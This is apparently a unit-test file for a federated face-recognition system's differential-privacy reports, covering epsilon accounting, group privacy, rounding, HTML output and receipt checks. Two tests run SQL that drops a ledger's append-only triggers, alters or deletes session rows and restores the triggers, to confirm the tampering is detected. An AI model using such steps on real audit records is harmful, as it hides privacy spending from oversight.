"""Unit tests for fedface.server.reports: the privacy report of a run (from the sites' ledgers,
held against the run store and its receipts, or from the run store alone) and of a ledger, its
schema, exact floats, rounding in every text format, group privacy, delta against 1/n, problems
when the figures disagree, a tampered or rolled-back ledger, a standalone HTML file, and the
`fedface report privacy` errors.

The federation here is real but small: three sites, each with its own PrivacyLedger charged
round by round as a site charges it, the signed receipts and the figures recorded in a real
RunStore, and a real partition of Yale A faces for the images per person.
"""

from __future__ import annotations

import base64
import copy
import csv
import dataclasses
import io
import json
import math
import re
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

from fedface.common import wire
from fedface.common.data import load_faces, partition_sites, split_open_set
from fedface.common.federated import site_name
from fedface.common.privacy.accounting import Mechanism, compute_epsilon, format_epsilon
from fedface.common.privacy.ledger import PrivacyLedger
from fedface.common.privacy.receipts import issue_receipt, read_receipts, receipt_key, sign, write_receipts
from fedface.server.queries import site_rows
from fedface.server.reports import SCHEMA, privacy_report_for_ledger, privacy_report_for_run
from fedface.server.reports.charts import accuracy_figure, epsilon_figure
from fedface.server.reports.render import CSV_FIELDS, render_report
from fedface.server.reports.sections import delta_vs_n, format_up, group_privacy, statement
from fedface.server.store import Participation, RunStore
from fedface.simulations.cli import app

RUN = "run-test-0001"
SITES = [site_name(k) for k in range(3)]
ROUNDS = 3
BUDGET = 30.0
DELTA = 1e-5
MECH = Mechanism(noise_multiplier=1.1, sample_rate=0.25, steps=3, max_grad_norm=1.0, delta=DELTA, accountant="rdp")
POLICY = json.dumps({"budget-epsilon": BUDGET, "delta": DELTA, "accountant": "rdp", "epsilon-per-run": None,
                     "require-secagg": True, "min-peers": 3, "allow-non-private": False})

runner = CliRunner()


@dataclass
class Federation:
    run_dir: Path
    ledger_dir: Path
    examples: dict[str, int]
    largest: dict[str, int]
    identities: dict[str, int]
    names: list[str]  # every identity name of the faces (none may show in a report)


def _build(tmp: Path, yale_a_root: Path, *, tamper_round: int | None = None) -> Federation:
    """A run directory of three sites x three rounds: ledgers charged, receipts and figures recorded.

    ``tamper_round``: the run store records site-000's epsilon of that round one float step off.
    """
    faces = load_faces(yale_a_root, size=(16, 16))
    split = split_open_set(faces, test_identities=3, seed=0)
    train = faces.subset(split.train)
    partition = partition_sites(train, sites=3, identities_per_site=4, skew=0.6, seed=1)
    run_dir, ledger_dir = tmp / "run", tmp / "ledgers"
    run_dir.mkdir(parents=True)
    split.save(run_dir / "split.json", faces)
    partition.save(run_dir / "partition.json", train)
    (run_dir / "ledgers.json").write_text(json.dumps({"ledger_dir": str(ledger_dir)}))
    counts = [np.bincount(train.labels[idx]) for idx in partition.sites]
    examples = {site_name(k): int(idx.size) for k, idx in enumerate(partition.sites)}
    config = {"data": {"root": str(yale_a_root), "image-size": [16, 16], "layout": "auto", "on-error": "fail"},
              "privacy": {"epsilon": 8.0, "delta": DELTA}, "federation": {"strategy": "fedavg"}}
    books = {}
    for site in SITES:
        books[site] = PrivacyLedger(ledger_dir / site / "ledger.sqlite")
        books[site].set_budget(site, epsilon=BUDGET, delta=DELTA)
    with RunStore(run_dir / "runs.sqlite") as store:
        store.start_run(RUN, config=config, sites=3, rounds=ROUNDS, secagg=True, started_at="2026-05-09T10:00:00+00:00")
        for rnd in range(1, ROUNDS + 1):
            participation, receipts, reports = [], {}, {}
            for site in SITES:
                session = books[site].charge(site, MECH, run_id=RUN, round=rnd, examples=examples[site])
                receipts[site] = issue_receipt(books[site], session, receipt_key(ledger_dir / site)).to_json()
                eps = session.epsilon_after
                if tamper_round == rnd and site == SITES[0]:
                    eps = math.nextafter(eps, math.inf)
                participation.append(Participation(
                    site, "answered", examples=examples[site], train_s=0.5, epsilon=eps, delta=session.epsilon_delta,
                    accountant=session.epsilon_accountant, budget_epsilon=BUDGET, remaining=max(0.0, BUDGET - eps),
                ))
                reports[site] = {"policy": POLICY, wire.M_NOISE: MECH.noise_multiplier, wire.M_SAMPLE_RATE: MECH.sample_rate,
                                 wire.M_STEPS: MECH.steps, wire.M_CLIP: MECH.max_grad_norm}
            store.record_round(
                RUN, rnd, started_at=f"2026-05-09T10:0{rnd}:00+00:00", seconds=1.0, sampled=SITES, participation=participation,
                metrics={"verif_acc": 0.6 + rnd / 20, "verif_auc": 0.7 + rnd / 20}, receipts=receipts, reports=reports,
            )
        store.finish_run(RUN, status="completed")
    for book in books.values():
        book.close()
    return Federation(
        run_dir=run_dir, ledger_dir=ledger_dir, examples=examples,
        largest={site_name(k): int(c.max()) for k, c in enumerate(counts)},
        identities={site_name(k): int(np.count_nonzero(c)) for k, c in enumerate(counts)},
        names=list(faces.identity_names),
    )


@pytest.fixture(scope="module")
def fed(tmp_path_factory: pytest.TempPathFactory, yale_a_root: Path) -> Federation:
    return _build(tmp_path_factory.mktemp("fed"), yale_a_root)


@pytest.fixture(scope="module")
def report(fed: Federation) -> dict[str, Any]:
    return privacy_report_for_run(fed.run_dir)


def _ledger(fed: Federation, site: str) -> Path:
    return fed.ledger_dir / site / "ledger.sqlite"


@pytest.fixture
def ledger_truth(fed: Federation) -> Iterator[dict[str, Any]]:
    truth = {}
    for site in SITES:
        with PrivacyLedger(_ledger(fed, site), create=False) as book:
            truth[site] = {"spend": book.spend(site), "sessions": book.sessions(site)}
    yield truth


# --- the run report: shape and exact figures ---------------------------------------------------


def test_run_report_has_the_schema_v1_keys(report: dict[str, Any]) -> None:
    assert report["schema"] == SCHEMA == "fedface.privacy-report/1"
    for key in ("generated_at", "fedface_version", "source", "run", "sites", "protections", "accuracy_vs_epsilon", "problems"):
        assert key in report
    assert report["source"]["kind"] == "run" and report["source"]["figures"] == "ledger"
    assert report["run"]["run_id"] == RUN and report["run"]["status"] == "completed" and report["run"]["secagg"] is True
    assert (report["run"]["rounds_planned"], report["run"]["rounds_done"]) == (ROUNDS, ROUNDS)
    assert set(report["protections"]) == {"dp_sgd", "secagg", "template_encryption"}
    assert "masked sum" in report["protections"]["secagg"]["adds"]
    assert "does not bound" in report["protections"]["secagg"]["does_not"]
    assert [s["site"] for s in report["sites"]] == SITES
    site = report["sites"][0]
    for key in ("site", "unit_of_privacy", "mechanism", "accountant", "delta", "delta_vs_1_over_n", "epsilon", "budget",
                "rounds", "group_privacy", "receipts", "ledger", "problems", "statement"):
        assert key in site
    assert site["unit_of_privacy"] == "one face image"
    assert site["mechanism"]["name"] == "Poisson-sampled Gaussian (DP-SGD)"
    assert site["accountant"] == {"name": "rdp", "library": "opacus", "version": __import__("opacus").__version__}
    json.dumps(report, allow_nan=False)  # plain JSON, nothing a reader cannot parse


def test_run_report_epsilons_are_the_ledgers_exact_floats(report: dict[str, Any], ledger_truth: dict[str, Any]) -> None:
    for site in report["sites"]:
        spend, sessions = ledger_truth[site["site"]]["spend"], ledger_truth[site["site"]]["sessions"]

        assert site["epsilon"]["lifetime"] == spend.epsilon
        assert [r["epsilon_lifetime"] for r in site["rounds"]] == [s.epsilon_after for s in sessions]
        assert site["budget"] == {"epsilon": BUDGET, "delta": DELTA, "remaining": spend.remaining}
        history = [s.mechanism.history_entry() for s in sessions]
        assert site["epsilon"]["run"] == compute_epsilon(history, delta=DELTA, accountant="rdp")
        assert site["rounds"][0]["epsilon_run"] == compute_epsilon(history[:1], delta=DELTA, accountant="rdp")
        assert site["problems"] == [] and site["ledger"]["integrity"] == "ok"


def test_run_report_mechanism_and_accuracy_vs_epsilon(fed: Federation, report: dict[str, Any]) -> None:
    site = report["sites"][1]
    mech = site["mechanism"]

    assert (mech["sample_rate"], mech["noise_multiplier"], mech["max_grad_norm"]) == (0.25, 1.1, 1.0)
    assert (mech["steps_per_round"], mech["steps_total"], mech["rounds"], mech["uniform"]) == (3, 9, 3, True)
    assert mech["examples"] == fed.examples[SITES[1]]
    assert [s["round"] for s in mech["sessions"]] == [1, 2, 3]
    points = report["accuracy_vs_epsilon"]
    assert [p["round"] for p in points] == [1, 2, 3]
    assert points[2]["verif_acc"] == 0.6 + 3 / 20
    assert points[2]["max_epsilon_lifetime"] == max(s["rounds"][2]["epsilon_lifetime"] for s in report["sites"])
    assert points[2]["max_epsilon_run"] == max(s["epsilon"]["run"] for s in report["sites"])


def test_run_report_receipts_verify_against_the_ledgers(report: dict[str, Any]) -> None:
    for site in report["sites"]:
        receipts = site["receipts"]
        assert (receipts["checked"], receipts["verified"], receipts["against"], receipts["count"]) == (True, True, "ledger", ROUNDS)
        assert receipts["problems"] == []
        assert receipts["latest"]["round"] == ROUNDS and receipts["sessions_after_latest"] == 0


def test_run_report_without_ledgers_takes_the_run_stores_figures(fed: Federation, report: dict[str, Any], tmp_path: Path) -> None:
    # Arrange: the same run store where no ledger is reachable (a deployed server's store)
    (tmp_path / "runs.sqlite").write_bytes((fed.run_dir / "runs.sqlite").read_bytes())

    alone = privacy_report_for_run(tmp_path / "runs.sqlite")

    assert alone["source"]["figures"] == "run store"
    for mine, theirs in zip(alone["sites"], report["sites"], strict=True):
        assert mine["figures_from"] == "the server's run store, as the site reported it"
        assert mine["epsilon"]["lifetime"] == theirs["epsilon"]["lifetime"]
        assert mine["epsilon"]["run"] == theirs["epsilon"]["run"]
        assert [r["epsilon_lifetime"] for r in mine["rounds"]] == [r["epsilon_lifetime"] for r in theirs["rounds"]]
        assert mine["budget"] == theirs["budget"]
        # consistent among themselves and with the store, but not verified: no ledger, no rollback check
        assert mine["receipts"]["against"] == "run store" and mine["receipts"]["verified"] is None
        assert mine["receipts"]["summary"].startswith("consistent (not checked against the site's ledger): 3 receipts")
        assert "rollback of it is not checked" in mine["receipts"]["summary"]
        assert mine["ledger"]["path"] is None and mine["ledger"]["integrity"].startswith("not checked")
        assert mine["people"]["max_images_per_person"] is None  # not guessed without the run directory
        assert mine["problems"] == []


def test_run_report_for_one_site_and_an_explicit_ledger_dir(fed: Federation) -> None:
    one = privacy_report_for_run(fed.run_dir / "runs.sqlite", run_id=RUN, site=SITES[2], ledger_dir=fed.ledger_dir)

    assert [s["site"] for s in one["sites"]] == [SITES[2]]
    assert one["sites"][0]["ledger"]["path"] == str(_ledger(fed, SITES[2]))


def test_lifetime_composes_every_run_and_the_run_epsilon_only_this_one(tmp_path: Path, yale_a_root: Path) -> None:
    # Arrange: after the run, site-000's data set is charged again by another run (no receipt yet)
    fed = _build(tmp_path, yale_a_root)
    later = Mechanism(noise_multiplier=2.0, sample_rate=0.5, steps=4, max_grad_norm=1.0, delta=DELTA, accountant="rdp")
    with PrivacyLedger(_ledger(fed, SITES[0]), create=False) as book:
        book.charge(SITES[0], later, run_id="later-run", examples=fed.examples[SITES[0]])
        spend, sessions = book.spend(SITES[0]), book.sessions(SITES[0])

    site = privacy_report_for_run(fed.run_dir, site=SITES[0])["sites"][0]

    assert site["epsilon"]["lifetime"] == spend.epsilon > site["rounds"][-1]["epsilon_lifetime"]
    assert (site["epsilon"]["sessions"], site["epsilon"]["runs"]) == (4, 2)
    run_only = compute_epsilon([s.mechanism.history_entry() for s in sessions[:3]], delta=DELTA, accountant="rdp")
    assert site["epsilon"]["run"] == run_only
    assert [r["run_id"] for r in site["runs"]] == [RUN, "later-run"]
    assert site["runs"][1]["epsilon"] == compute_epsilon([later.history_entry()], delta=DELTA, accountant="rdp")
    assert [r["run_id"] for r in site["rounds"]] == [RUN] * ROUNDS
    assert site["budget"]["remaining"] == spend.remaining
    assert site["receipts"]["verified"] is True and site["receipts"]["sessions_after_latest"] == 1
    assert "(4 sessions in 2 runs)" in site["statement"]


# --- group privacy, delta against 1/n ----------------------------------------------------------


def test_group_privacy_follows_the_standard_bound() -> None:
    eps, delta = 0.5, 1e-6

    entries = {e["k"]: e for e in group_privacy(eps, delta, 7)["entries"]}

    assert sorted(entries) == [1, 2, 5, 7, 10]
    assert entries[5]["epsilon"] == 5 * eps and entries[5]["delta"] == 5 * math.exp(4 * eps) * delta
    assert entries[7]["largest_at_site"] and not entries[5]["largest_at_site"]
    assert all(e["meaningful"] for e in entries.values())
    big = {e["k"]: e for e in group_privacy(8.0, 1e-5, None, 100)["entries"]}
    assert not big[5]["meaningful"]  # 5 e^32 1e-5 is far above 1
    assert big[10]["delta"] == 10 * math.exp(72.0) * 1e-5  # the bound itself, never capped


def _first_without_guarantee(eps: float, delta: float, threshold: float) -> int:
    k = 1
    while k * math.exp((k - 1) * eps) * delta < threshold:
        k += 1
    return k


def test_group_privacy_is_meaningful_only_below_one_over_n() -> None:
    # the new user's site: 100 images, epsilon 7.996 at delta 1e-5; k = 2 gives delta 0.0594, six times 1/n
    gp = group_privacy(7.996, 1e-5, 10, 100)
    entries = {e["k"]: e for e in gp["entries"]}

    assert (gp["meaningful_threshold"], gp["meaningful_threshold_basis"]) == (0.01, "1/n, n = 100 images")
    assert entries[1]["meaningful"] and not entries[2]["meaningful"] and 0.05 < entries[2]["delta"] < 0.06
    assert gp["no_guarantee_from"] == 2
    # n unknown: 1e-3, and the JSON says so
    unknown = group_privacy(7.996, 1e-5, None, None)
    assert unknown["meaningful_threshold"] == 1e-3 and "n is unknown" in unknown["meaningful_threshold_basis"]
    # the first k without a guarantee is exact, also far beyond the k the table lists
    cases = ((0.5, 1e-6, 40), (0.05, 1e-7, 1000), (0.0, 1e-6, 50), (2.0, 1e-5, None), (0.3, 0.02, 40), (1.0, 0.05, 40))
    for eps, delta, n in cases:
        gp = group_privacy(eps, delta, None, n)
        assert gp["no_guarantee_from"] == _first_without_guarantee(eps, delta, gp["meaningful_threshold"])
        for e in gp["entries"]:
            assert e["meaningful"] == (e["k"] < gp["no_guarantee_from"])


def test_group_privacy_uses_the_most_images_one_person_has_at_the_site(fed: Federation, report: dict[str, Any]) -> None:
    for site in report["sites"]:
        largest = fed.largest[site["site"]]
        gp = site["group_privacy"]
        mine = next(e for e in gp["entries"] if e["largest_at_site"])

        assert gp["max_images_per_person"] == largest == site["people"]["max_images_per_person"]
        assert site["people"]["identities"] == fed.identities[site["site"]]
        assert mine["k"] == largest and mine["epsilon"] == largest * site["epsilon"]["lifetime"]
        if not mine["meaningful"]:
            assert f"the most one person has here is {largest} images: no meaningful guarantee for them" in site["statement"]


def _without_images(text: str) -> str:
    return re.sub(r'src="data:image/png;base64,[^"]+"', "", text)


def test_a_group_delta_at_or_above_one_is_no_guarantee_in_text_and_exact_in_json(report: dict[str, Any]) -> None:
    site = report["sites"][0]
    eps = site["epsilon"]["lifetime"]
    five = next(e for e in site["group_privacy"]["entries"] if e["k"] == 5)
    assert five["delta"] == 5 * math.exp(4 * eps) * DELTA > 1  # the JSON keeps the bound as computed
    assert repr(five["delta"]) in render_report(report, "json") or json.dumps(five["delta"]) in render_report(report, "json")

    md, html, text_csv = (_without_images(render_report(report, fmt)) for fmt in ("md", "html", "csv"))
    shown = f"epsilon {format_epsilon(5 * eps, rounding='up')}, delta \u2265 1 (no meaningful guarantee)"
    assert f"| 5 | {shown} |" in md and f"<td>5</td><td>{shown}</td>" in html
    for text in (md, html, text_csv, *(s["statement"] for s in report["sites"])):
        assert not re.search(r"\de\+\d", text)  # no delta of 2.38e+05 anywhere a person reads


def test_the_statement_says_from_how_many_images_on_there_is_no_guarantee(fed: Federation, report: dict[str, Any]) -> None:
    site = report["sites"][0]
    n = fed.examples[SITES[0]]
    first = _first_without_guarantee(site["epsilon"]["lifetime"], DELTA, 1 / n)
    assert site["group_privacy"]["no_guarantee_from"] == first == 3
    expected = f"from {first} images on, there is no meaningful guarantee (the group delta is not below 1/n = 1/{n})"
    assert expected in site["statement"]
    # a ledger-only report: the people are unknown, but n is the ledger's, and the statement still says it
    own = privacy_report_for_ledger(_ledger(fed, SITES[0]))["sites"][0]
    assert own["people"]["max_images_per_person"] is None
    assert f"from {first} images on, there is no meaningful guarantee" in own["statement"]
    assert "how many images one person has at this site is not known" in own["statement"]
    # the new user's site: already 2 images are past 1/n
    user = copy.deepcopy(own)
    user["group_privacy"] = group_privacy(7.996, 1e-5, None, 100)
    text = statement(user, run=None, generated_at="2026-05-09T10:00:00+00:00")
    assert "for a person with 2 or more images there is no meaningful guarantee (the group delta is not below 1/n = 1/100" in text
    # n unknown: the 1e-3 threshold, said
    user["group_privacy"] = group_privacy(0.5, 1e-6, None, None)
    first = _first_without_guarantee(0.5, 1e-6, 1e-3)
    text = statement(user, run=None, generated_at="2026-05-09T10:00:00+00:00")
    assert f"from {first} images on, there is no meaningful guarantee (the group delta is not below 0.001 (the number" in text


def test_delta_against_one_over_n(fed: Federation, report: dict[str, Any]) -> None:
    assert delta_vs_n(1e-5, 40) == {"n": 40, "one_over_n": 0.025, "delta_times_n": 1e-5 * 40, "ok": True}
    assert delta_vs_n(0.05, 40)["ok"] is False
    site = report["sites"][0]
    assert site["delta_vs_1_over_n"] == {"n": fed.examples[SITES[0]], "one_over_n": 1 / fed.examples[SITES[0]],
                                         "delta_times_n": DELTA * fed.examples[SITES[0]], "ok": True}


# --- rounding in every text format -------------------------------------------------------------


def _nudged(report: dict[str, Any]) -> dict[str, Any]:
    """The report with site-000's lifetime spend just above 1 and what remains just below 1."""
    out = copy.deepcopy(report)
    site = out["sites"][0]
    site["epsilon"]["lifetime"] = 1.00000001
    site["budget"]["remaining"] = 0.99999999
    site["rounds"][0].update(epsilon_lifetime=1.00000001, remaining=0.99999999)
    return out


def test_markdown_rounds_epsilon_up_and_remaining_down(report: dict[str, Any]) -> None:
    md = render_report(_nudged(report), "md")

    row = next(line for line in md.splitlines() if line.startswith(f"| {SITES[0]} |"))
    cells = [c.strip() for c in row.strip("|").split("|")]
    assert cells[2] == "1.001" and cells[6] == "0.999"  # epsilon lifetime up, remaining down
    assert "| 1.000 |" not in md and "| 1.001 |" in md


def test_csv_carries_exact_figures_and_rounded_displays(report: dict[str, Any], ledger_truth: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(render_report(_nudged(report), "csv"))))

    assert tuple(rows[0]) == CSV_FIELDS
    assert len(rows) == len(SITES) * ROUNDS
    first = rows[0]
    assert (first["epsilon_lifetime"], first["epsilon_lifetime_display"]) == ("1.00000001", "1.001")
    assert (first["remaining"], first["remaining_display"]) == ("0.99999999", "0.999")
    other = [r for r in rows if r["site"] == SITES[1]]
    assert [float(r["epsilon_lifetime"]) for r in other] == [s.epsilon_after for s in ledger_truth[SITES[1]]["sessions"]]


def test_html_rounds_the_safe_way_and_stands_alone(report: dict[str, Any]) -> None:
    text = render_report(_nudged(report), "html")

    assert "<td>1.001</td>" in text and "<td>0.999</td>" in text and "<td>1.000</td>" not in text
    assert not re.search(r"https?://", text) and "<script" not in text and "<link" not in text
    images = re.findall(r'src="data:image/png;base64,([A-Za-z0-9+/=]+)"', text)
    assert len(images) == len(SITES) + 1  # one chart per site, one of accuracy against epsilon
    assert all(base64.b64decode(png)[:8] == b"\x89PNG\r\n\x1a\n" for png in images)
    assert len(re.findall(r"src=", text)) == len(images)


def _legend(fig: Any) -> list[str]:
    return [t.get_text() for t in fig.axes[0].get_legend().get_texts()]


def test_epsilon_chart_draws_the_budget_line_or_says_there_is_none(report: dict[str, Any]) -> None:
    site = copy.deepcopy(report["sites"][0])

    fig = epsilon_figure(site, run_id=RUN)
    ax = fig.axes[0]
    assert "budget epsilon 30" in _legend(fig) and "lifetime epsilon (every session of the data set)" in _legend(fig)
    budget = next(line for line in ax.get_lines() if line.get_label() == "budget epsilon 30")
    assert budget.get_linestyle() == "--" and list(budget.get_ydata()) == [BUDGET, BUDGET]  # horizontal, dashed
    lifetime = next(line for line in ax.get_lines() if line.get_label().startswith("lifetime"))
    assert list(lifetime.get_ydata()) == [r["epsilon_lifetime"] for r in site["rounds"]]
    assert ax.get_xlabel() == f"round of run {RUN}" and ax.get_ylabel() == "epsilon at delta 1e-05"

    site["budget"]["epsilon"] = None
    assert "no budget set" in _legend(epsilon_figure(site, run_id=RUN))
    site["rounds"] = []
    empty = epsilon_figure(site, run_id=RUN).axes[0]
    assert [t.get_text() for t in empty.texts] == [f"{SITES[0]}: no privacy spend reported"]


def test_accuracy_chart_plots_accuracy_against_the_run_epsilon(report: dict[str, Any]) -> None:
    fig = accuracy_figure(report["accuracy_vs_epsilon"], run_id=RUN)

    acc = next(line for line in fig.axes[0].get_lines() if line.get_label() == "verification accuracy")
    assert list(acc.get_xdata()) == [p["max_epsilon_run"] for p in report["accuracy_vs_epsilon"]]
    assert list(acc.get_ydata()) == [p["verif_acc"] for p in report["accuracy_vs_epsilon"]]


def test_statement_rounds_epsilon_up_and_remaining_down(report: dict[str, Any], ledger_truth: dict[str, Any]) -> None:
    site = report["sites"][0]
    spend = ledger_truth[SITES[0]]["spend"]

    assert f"at most epsilon {format_epsilon(spend.epsilon, rounding='up')} at delta 1e-05" in site["statement"]
    assert f"at least {format_epsilon(spend.remaining, rounding='down')} remains" in site["statement"]
    assert "one face image" in site["statement"] and "rdp accountant of opacus" in site["statement"]


def test_a_group_delta_is_shown_rounded_up() -> None:
    assert format_up(0.13531) == "0.136"
    assert format_up(1.2301e30) == "1.24e+30"
    assert format_up(1e-5) == "1e-05" == f"{1e-5:g}"  # every delta of a report written one way
    assert format_up(3.881e9) == "3.89e+09" and format_up(1234.0) == "1240"
    assert format_up(1.5565, 4, down=True) == "1.556"


def test_markdown_has_the_sign_lines_and_the_problems_sections_the_html_has(report: dict[str, Any]) -> None:
    md, html = render_report(report, "md"), render_report(report, "html")

    for label in ("Signed:", "Date (UTC):"):
        assert len(re.findall(rf"^{re.escape(label)} _+$", md, flags=re.M)) == len(SITES)
        assert html.count(f"<span>{label}</span>") == len(SITES)
    assert "## Problems\n\nNo problems: the figures agree wherever they were compared.\n" in md
    assert md.count("### Problems\n\nNo problems: the figures agree wherever they were compared.\n") == len(SITES)
    assert html.count("No problems: the figures agree wherever they were compared.") == len(SITES) + 1


def test_text_shows_times_to_the_second_counts_with_plurals_and_deltas_one_way(report: dict[str, Any]) -> None:
    site = report["sites"][0]
    created = site["mechanism"]["sessions"][0]["created_at"]
    assert re.fullmatch(r"\S+T\d\d:\d\d:\d\d\.\d+\+00:00", created)  # the JSON keeps the ledger's full ISO time
    assert "(3 sessions in 1 run)" in site["statement"] and "in 1 runs" not in site["statement"]

    for fmt in ("md", "html"):
        text = re.sub(r"\(signed [^,]+,", "", _without_images(render_report(report, fmt)))  # a receipt's own time, as signed
        assert "+00:00" not in text and not re.search(r"\d\d:\d\d:\d\d\.\d", text)
        assert "(s)" not in text
        assert "delta 1e-05" in text and "1.00e-5" not in text
    assert "+00:00" not in re.sub(r"\(signed [^,]+,", "", site["statement"])
    assert re.search(r"Sessions from \d{4}-\d\d-\d\d \d\d:\d\d:\d\d to \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\.", site["statement"])


def test_no_identity_name_image_or_key_in_any_format(fed: Federation, report: dict[str, Any]) -> None:
    texts = [render_report(report, fmt) for fmt in ("json", "md", "csv", "html")]

    for text in texts:
        for name in fed.names:
            assert name not in text
        assert "yalefaces/" not in text  # no image path
        assert "PRIVATE KEY" not in text and "PUBLIC KEY" not in text
        assert '"public_key"' not in text and '"signature"' not in text


# --- disagreement, tampering, rollback ---------------------------------------------------------


def test_a_run_store_figure_one_bit_off_the_ledger_is_a_problem(tmp_path: Path, yale_a_root: Path) -> None:
    fed = _build(tmp_path, yale_a_root, tamper_round=2)

    out = privacy_report_for_run(fed.run_dir, site=SITES[0])

    problems = out["sites"][0]["problems"]
    assert any(p.startswith("round 2: the run store records epsilon") for p in problems)
    assert any("the run store records" in p and "for run run-test-0001 round 2" in p for p in problems)  # its receipt
    assert out["problems"] == [f"{SITES[0]}: {p}" for p in problems]
    assert out["sites"][0]["receipts"]["verified"] is False
    assert re.search(r"\b\d+ problems? (was|were) found", out["sites"][0]["statement"])


def _tamper(path: Path, sql: str) -> None:
    conn = sqlite3.connect(path, isolation_level=None)
    conn.executescript(sql)
    conn.close()


def test_a_tampered_ledger_shows_its_integrity_error(tmp_path: Path, yale_a_root: Path) -> None:
    fed = _build(tmp_path, yale_a_root)
    _tamper(_ledger(fed, SITES[1]), "DROP TRIGGER sessions_no_update; UPDATE sessions SET steps = 1 WHERE id = 2; "
            "CREATE TRIGGER sessions_no_update BEFORE UPDATE ON sessions BEGIN SELECT RAISE(ABORT, 'x'); END;")

    run = privacy_report_for_run(fed.run_dir, site=SITES[1])
    own = privacy_report_for_ledger(_ledger(fed, SITES[1]))

    for site in (run["sites"][0], own["sites"][0]):
        assert "fails its integrity check: sessions row 2 was altered" in site["ledger"]["integrity"]
        assert any(p.startswith("ledger integrity: ") for p in site["problems"])
        assert "Ledger integrity: privacy ledger" in site["statement"]
    assert "INTEGRITY ERROR" in render_report(run, "md")


def test_a_rolled_back_ledger_fails_its_receipts(tmp_path: Path, yale_a_root: Path) -> None:
    fed = _build(tmp_path, yale_a_root)
    ledger = _ledger(fed, SITES[0])
    # the last session deleted, the sequence put back, the trigger re-created: verify() passes
    _tamper(ledger, "DROP TRIGGER sessions_no_delete; DELETE FROM sessions WHERE id = 3; "
            "UPDATE sqlite_sequence SET seq = 2 WHERE name = 'sessions'; "
            "CREATE TRIGGER sessions_no_delete BEFORE DELETE ON sessions BEGIN SELECT RAISE(ABORT, 'x'); END;")

    site = privacy_report_for_run(fed.run_dir, site=SITES[0])["sites"][0]

    assert site["ledger"]["integrity"] == "ok"
    assert site["receipts"]["verified"] is False
    assert any("is behind its receipts" in p for p in site["receipts"]["problems"])
    assert any("the ledger no session of it" in p for p in site["problems"])


# --- the run store alone: a resumed run, unreported mechanisms, receipts without a ledger ------

A_MECH = {wire.M_NOISE: 1.1, wire.M_SAMPLE_RATE: 0.05, wire.M_STEPS: 40, wire.M_CLIP: 1.0}


def _spend(eps: float, status: str = "answered", **kw: Any) -> Participation:
    return Participation("site-a", status, examples=100, epsilon=eps, delta=DELTA, accountant="rdp",  # type: ignore[arg-type]
                         budget_epsilon=10.0, remaining=max(0.0, 10.0 - eps), **kw)


def _store_round(store: RunStore, run: str, rnd: int, at: str, p: Participation, report: dict[str, Any] | None = None,
                 **kw: Any) -> None:
    store.record_round(run, rnd, started_at=f"2026-05-09T{at}:00+00:00", seconds=1.0, sampled=[p.site], participation=[p],
                       metrics={"verif_acc": 0.5}, reports={p.site: dict(A_MECH if report is None else report)}, **kw)


def _resumed_store(path: Path, spends: tuple[float, float, float, float]) -> Path:
    """Run A charges round 1, run B (started later) round 1, then A is resumed for rounds 2 and 3:
    in store order (runs by start) B's spend comes last, in time order A's last round does."""
    a1, b1, a2, a3 = spends
    with RunStore(path / "runs.sqlite") as store:
        store.start_run("A", config={}, sites=1, rounds=3, secagg=False, started_at="2026-05-09T09:00:00+00:00")
        _store_round(store, "A", 1, "09:01", _spend(a1))
        store.finish_run("A", status="failed", error="crash")
        store.start_run("B", config={}, sites=1, rounds=1, secagg=False, started_at="2026-05-09T10:00:00+00:00")
        _store_round(store, "B", 1, "10:01", _spend(b1))
        store.finish_run("B", status="completed")
        store.resume_run("A")
        _store_round(store, "A", 2, "11:01", _spend(a2))
        _store_round(store, "A", 3, "11:02", _spend(a3))
        store.finish_run("A", status="completed")
    return path


def test_an_expression_run_reports_and_plots_expression_accuracy_against_epsilon(tmp_path: Path) -> None:
    spends = [compute_epsilon([(1.1, 0.05, 40)] * k, delta=DELTA, accountant="rdp") for k in (1, 2)]
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("E", config={}, sites=1, rounds=2, secagg=False, started_at="2026-05-09T09:00:00+00:00")
        for rnd, (eps, acc) in enumerate(zip(spends, (0.41, 0.47), strict=True), start=1):
            store.record_round("E", rnd, started_at=f"2026-05-09T09:0{rnd}:00+00:00", seconds=1.0, sampled=["site-a"],
                               participation=[_spend(eps)], metrics={"expression_acc": acc, "expression_macro_f1": acc - 0.1},
                               reports={"site-a": dict(A_MECH)})

    report = privacy_report_for_run(tmp_path, run_id="E")
    fig = accuracy_figure(report["accuracy_vs_epsilon"], run_id="E")
    md = render_report(report, "md")

    points = report["accuracy_vs_epsilon"]
    assert [p["expression_acc"] for p in points] == [0.41, 0.47] and all(p["verif_acc"] is None for p in points)
    assert [p["max_epsilon_run"] for p in points] == spends  # exact, never rounded down
    acc = next(line for line in fig.axes[0].get_lines() if line.get_label() == "expression accuracy")
    assert list(acc.get_ydata()) == [0.41, 0.47] and list(acc.get_xdata()) == spends
    assert "| round | expression accuracy | macro-F1 |" in md and "| 2 | 0.4700 | 0.3700 |" in md


def test_a_run_resumed_after_a_later_run_reports_the_largest_spend(tmp_path: Path) -> None:
    run_dir = _resumed_store(tmp_path, (1.0, 2.0, 3.0, 4.0))

    sites = {rid: privacy_report_for_run(run_dir, run_id=rid)["sites"][0] for rid in ("A", "B")}
    with RunStore(run_dir / "runs.sqlite", create=False) as store:
        [row] = site_rows(store)

    for site in sites.values():
        assert site["epsilon"]["lifetime"] == 4.0 and site["budget"]["remaining"] == 6.0
        assert site["problems"] == []
    assert [r["epsilon_lifetime"] for r in sites["A"]["rounds"]] == [1.0, 3.0, 4.0]
    assert (row.epsilon, row.delta, row.budget_epsilon) == (4.0, DELTA, 10.0)  # the console's sites page


def test_a_lifetime_spend_that_goes_down_is_a_problem(tmp_path: Path) -> None:
    # Arrange: run B reports 5, then resumed run A reports 3 and 3.5 (its ledger rolled back, or replaced)
    run_dir = _resumed_store(tmp_path, (1.0, 5.0, 3.0, 3.5))

    site = privacy_report_for_run(run_dir, run_id="A")["sites"][0]
    with RunStore(run_dir / "runs.sqlite", create=False) as store:
        [row] = site_rows(store)

    assert site["epsilon"]["lifetime"] == 5.0 and site["budget"]["remaining"] == 5.0
    [down] = [p for p in site["problems"] if "went down" in p]
    assert "from 5.0 (run B round 1, 2026-05-09T10:01:00" in down and "to 3.0 (run A round 2, 2026-05-09T11:01:00" in down
